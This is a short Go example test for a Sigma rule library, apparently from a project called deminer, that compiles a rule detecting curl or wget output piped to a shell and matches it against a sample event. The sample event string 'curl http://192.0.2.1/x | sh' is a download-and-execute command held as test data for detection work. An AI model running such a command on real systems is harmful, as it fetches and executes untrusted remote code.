package sigma_test

import (
	"fmt"

	"github.com/deminer/deminer/sigma"
)

func Example() {
	rules, err := sigma.Compile(sigma.Source{Name: "demo.yml", Text: `
title: Download handed to a shell
logsource: {category: process_creation, product: linux}
detection:
  get: {CommandLine|contains: ['curl ', 'wget ']}
  run: {CommandLine|endswith: ['| sh', '|bash']}
  condition: get and run
`})
	if err != nil {
		fmt.Println(err)
		return
	}
	src := sigma.LogSource{Category: "process_creation", Product: "linux"}
	for _, r := range rules.Match(src, sigma.Map{"CommandLine": "curl http://192.0.2.1/x | sh"}) {
		fmt.Println(r.Title)
	}
	// Output: Download handed to a shell
}
